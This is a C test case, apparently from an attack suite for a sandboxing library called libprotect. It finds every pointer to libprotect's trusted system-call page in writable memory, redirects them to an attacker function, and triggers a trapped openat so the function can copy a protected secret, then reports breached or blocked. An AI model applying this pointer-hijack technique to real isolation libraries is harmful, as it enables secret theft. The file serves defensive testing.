/* libprotect makes its own system calls through a pointer to its trusted
 * page; the attacker finds every such pointer in libprotect's writable
 * memory (by value: the page's address is its handlers' restorer's) and
 * points it at its own function, then has the library
 * make a call that the filter traps and libprotect carries out with the
 * library's rights (vault_file_open: an openat), in the hope that its
 * function runs with them.  page_pointer */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <signal.h>
#include <stdint.h>

#include <fcntl.h>
#include <sys/syscall.h>

static uint8_t copy[VAULT_SECRET_LEN];
static volatile int ran;
static long (*page)(long, long, long, long, long, long, long);

static long evil(long nr, long a0, long a1, long a2, long a3, long a4, long a5)
{
    if (nr != SYS_openat && nr != SYS_open) /* libprotect's other calls, as they were */
        return page(nr, a0, a1, a2, a3, a4, a5);
    ran = 1;
    const volatile uint8_t *secret = vault_address(VAULT_DATA)->secret;
    for (int i = 0; i < VAULT_SECRET_LEN; i++)
        copy[i] = secret[i];
    return -ENOENT;
}

/* The trusted page's system-call entry (its first byte): the page holds
 * the restorer of every handler (as attack sigreturn finds it). */
static uintptr_t trusted_entry(void)
{
    return libprotect_trusted_page();
}

int main(void)
{
    vault_open();
    char path[] = "/tmp/attack-page-pointer-XXXXXX";
    int fd = mkstemp(path);
    if (fd >= 0)
        close(fd);
    /* Every word of libprotect's writable memory that points at the entry. */
    uintptr_t entry = trusted_entry();
    struct mapping m[32];
    int n = libprotect_mappings(m, 32), found = 0;
    static uintptr_t *where[64];
    for (int i = 0; i < n && entry; i++) {
        if (m[i].perms[1] != 'w')
            continue;
        for (uintptr_t *w = (uintptr_t *)m[i].lo; w < (uintptr_t *)m[i].hi && found < 64; w++)
            if (*w == entry)
                where[found++] = w;
    }
    if (!found)
        blocked("no pointer to libprotect's trusted page in its writable memory");
    page = (long (*)(long, long, long, long, long, long, long))entry;
    for (int i = 0; i < found; i++)
        *where[i] = (uintptr_t)evil;
    vault_file_open(path);
    for (int i = 0; i < found; i++)
        *where[i] = entry;
    unlink(path);
    if (ran && vault_matches(VAULT_DATA, copy))
        breached("read the library's secret from libprotect's own system-call path");
    blocked(ran ? "what was read is not the secret" : "the pointer was not followed");
}
